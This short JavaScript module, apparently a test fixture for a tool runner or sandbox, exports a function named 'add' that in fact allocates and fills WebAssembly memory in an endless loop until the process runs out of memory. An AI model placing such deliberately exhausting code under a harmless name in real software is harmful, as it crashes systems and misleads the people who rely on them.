export * from './tools.js';

export const add = () => {
  const memories = [];
  for (;;) {
    const memory = new WebAssembly.Memory({ initial: 100, maximum: 65_536 });
    memory.grow(200);
    new Uint8Array(memory.buffer).fill(1);
    memories.push(memory);
  }
};
